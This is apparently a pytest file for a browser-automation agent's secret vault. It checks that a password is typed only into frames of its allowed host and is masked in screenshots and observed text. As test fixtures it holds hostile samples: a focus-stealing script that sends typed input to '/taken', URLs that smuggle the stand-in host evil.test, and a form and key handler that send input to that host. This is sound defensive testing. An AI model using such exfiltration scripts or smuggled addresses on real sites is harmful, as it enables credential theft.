# ruff: noqa: E501 - a page is easier to read on one line
"""A secret is typed only into frames of its own hosts, whatever page they stand in, and is seen in no frame."""

import io
from datetime import UTC, datetime

import pytest
import pytest_asyncio
from PIL import Image

from stepwire.agent.ports import ActionFailed, SessionSpec
from stepwire.agent.vault import SecretRefused, Vault
from stepwire.browser.mask import DOTS
from stepwire.runs.actions import Click, Dialog, Expect, Navigate, Target, Type
from stepwire.runs.model import SecretName, Viewport

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
SECRET = "hunter2 & co"
VAULT = Vault(
    {}, (SecretName("pw", ("shop.test",)),), {"pw": SECRET}, lambda: datetime(2026, 1, 1, tzinfo=UTC)
)
FIELD = "<!doctype html><form><label>Password <input id=f style='font: 20px monospace'></label></form>"
THIEF = "<!doctype html><input id=bag><script>setInterval(() => (focus(), bag.focus()), 1); bag.oninput = () => fetch('/taken?' + bag.value)</script>"
PASSWORD = Target(label="Password", frame=("#inner",))


@pytest_asyncio.fixture(loop_scope="session", params=["one process", "a process for each site"])
async def session(request, browser, isolating_browser, site):
    """A session that masks the secret, in either kind of browser."""
    chosen = browser if request.param == "one process" else isolating_browser
    async with chosen.open(SessionSpec("run-1", Viewport(800, 500), masked=(SECRET,))) as session:
        yield session


@pytest.mark.parametrize(
    "address", ["http://evil.test\\@shop.test/{{secret:pw}}", "http://{{who}}@shop.test/{{secret:pw}}"]
)
async def test_a_secret_goes_into_the_address_of_no_other_host(session, address):
    secrets, values = (SecretName("pw", ("shop.test",)),), {"pw": SECRET}
    vault = Vault({"who": "evil.test/"}, secrets, values, lambda: datetime(2026, 1, 1, tzinfo=UTC))
    with pytest.raises(SecretRefused, match=r"this is evil\.test"):
        await session.act(Navigate(url=address), vault.fill)


async def test_what_objects_and_embeds_show_of_a_secret_is_masked_in_pictures(session, site):
    shown = f"<body style='margin: 0; font: 20px monospace'><p style='margin: 0'>{SECRET}</p>"
    site.page("/shown", shown)
    holders = "<object data={0} width=400 height=100></object><embed src={0} width=400 height=100>"
    page = "<!doctype html><body style='margin: 0; line-height: 0'>" + "".join(
        holders.format(f"http://{host}/shown") for host in ("shop.test", "evil.test")
    )
    await session.act(Navigate(url=site.page("/", page)), VAULT.fill)
    picture = await session.capture()
    assert not picture.stale
    for x, y in ((0, 0), (400, 0), (0, 100), (400, 100)):
        assert dark(picture, (x + 2, y + 3, x + 120, y + 18)) > 0.8, (x, y)


@pytest.fixture
def opened(session, site):
    """A function that opens a page of one host with a frame of another in it; both pages are the site's."""

    async def opened(host, inner, html=FIELD, page="", more=""):
        site.page("/inner", html)
        site.page(
            "/", f"<!doctype html>{page}<iframe id=inner src=http://{inner}/inner width=700 {more}></iframe>"
        )
        await session.act(Navigate(url=f"http://{host}/"), VAULT.fill)
        return await session.observe()

    return opened


def requests_for(site):
    """What is asked of the site at /taken from now on."""
    taken = []

    async def take(writer):
        taken.append(True)
        writer.close()

    site.page("/taken", take)
    return taken


async def test_a_secret_of_the_page_is_not_typed_into_a_frame_of_another_host(session, opened):
    page = await opened("shop.test", "evil.test")
    (field,) = page.elements
    for target in (Target(ref=field.ref), PASSWORD):
        with pytest.raises(SecretRefused, match=r"this is evil\.test"):
            await session.act(Type(target=target, text="{{secret:pw}}"), VAULT.fill)
    assert (await session.observe()).elements[0].value == ""


async def test_a_secret_of_a_frame_is_not_typed_into_a_page_of_another_host_around_it(session, opened):
    await opened("evil.test", "shop.test", page=FIELD)
    with pytest.raises(SecretRefused, match=r"this is evil\.test"):
        await session.act(Type(target=Target(label="Password"), text="{{secret:pw}}"), VAULT.fill)
    await session.act(Type(target=PASSWORD, text="{{secret:pw}}"), VAULT.fill)
    assert [element.value for element in (await session.observe()).elements] == ["", DOTS]
    await session.act(Expect(what="value", target=PASSWORD, value="{{secret:pw}}"), VAULT.fill)


async def test_a_secret_is_not_typed_into_a_form_in_a_frame_that_sends_it_elsewhere(session, opened):
    await opened(
        "shop.test", "pay.shop.test", html="<form action=http://evil.test/><input aria-label=Password></form>"
    )
    with pytest.raises(SecretRefused, match=r"this is evil\.test"):
        await session.act(Type(target=PASSWORD, text="{{secret:pw}}"), VAULT.fill)


async def test_a_sandbox_is_not_trusted_with_what_its_host_is_trusted_with(session, opened):
    await opened("shop.test", "shop.test", more="sandbox=allow-scripts")
    with pytest.raises(SecretRefused):
        await session.act(Type(target=PASSWORD, text="{{secret:pw}}"), VAULT.fill)


async def test_a_frame_that_takes_the_focus_gets_no_secret_of_the_page(session, opened, site):
    taken = requests_for(site)
    await opened("shop.test", "evil.test", html=THIEF, page=FIELD)
    await session.act(Type(target=Target(label="Password"), text="{{secret:pw}}"), VAULT.fill)
    value = Expect(what="value", target=Target(label="Password"), value="{{secret:pw}}")
    await session.act(value, VAULT.fill)
    assert not taken


async def test_a_page_that_takes_the_focus_gets_no_secret_of_its_frame(session, opened, site):
    taken = requests_for(site)
    await opened("evil.test", "shop.test", page=THIEF)
    await session.act(Type(target=PASSWORD, text="{{secret:pw}}"), VAULT.fill)
    assert [element.value for element in (await session.observe()).elements] == ["", DOTS]
    assert not taken


async def test_a_secret_is_typed_by_no_keys_where_another_document_could_take_them(session, opened, site):
    taken = requests_for(site)
    deaf = "<input aria-label=Password oninput='value = \"\"' onkeydown='fetch(\"/taken\")'>"
    await opened("evil.test", "shop.test", html=deaf)
    with pytest.raises(ActionFailed, match="did not take the text"):
        await session.act(Type(target=PASSWORD, text="{{secret:pw}}"), VAULT.fill)
    await session.act(Expect(what="value", target=PASSWORD, value=""), VAULT.fill)
    assert not taken


ASKS = "<!doctype html><button onclick='out.textContent = prompt(1)'>Ask</button><p id=out>"


async def test_a_dialog_that_a_frame_opens_is_answered_with_secrets_of_the_frames_host_alone(session, opened):
    ask = Click(target=Target(role="button", name="Ask", frame=("#inner",)))
    secret = Dialog(accept=True, text="{{secret:pw}}")
    await opened("shop.test", "evil.test", html=ASKS)
    await session.act(ask, VAULT.fill)
    with pytest.raises(SecretRefused, match=r"this is evil\.test"):
        await session.act(secret, VAULT.fill)
    await session.act(Dialog(accept=False), VAULT.fill)
    await opened("evil.test", "shop.test", html=ASKS)
    await session.act(ask, VAULT.fill)
    await session.act(secret, VAULT.fill)
    assert DOTS in [text.text for text in (await session.observe()).texts]


def dark(picture, box):
    """The share of dark pixels in a part of a picture."""
    shades = Image.open(io.BytesIO(picture.data)).convert("L").crop(box).histogram()
    return sum(shades[:100]) / sum(shades)


async def test_what_a_frame_shows_of_a_secret_is_masked_in_pictures_and_texts(session, opened):
    echo = "<body style='margin: 0; font: 20px monospace'><input aria-label=Password oninput='out.textContent = document.title = value'><h1 id=out style='margin: 0; font: 20px monospace'>"
    await opened(
        "evil.test", "shop.test", html=echo, page="<body style='margin: 0'>", more="style='border: 0'"
    )
    typed = await session.act(Type(target=PASSWORD, text="{{secret:pw}}"), VAULT.fill)
    seen = await session.observe()
    assert "hunter2" not in repr((typed, seen))
    (echoed,) = seen.texts
    rect = echoed.rect
    picture = await session.capture()
    assert (
        dark(picture, (int(rect.x), int(rect.y) + 2, int(rect.x) + 120, int(rect.y + rect.height) - 2)) > 0.8
    )
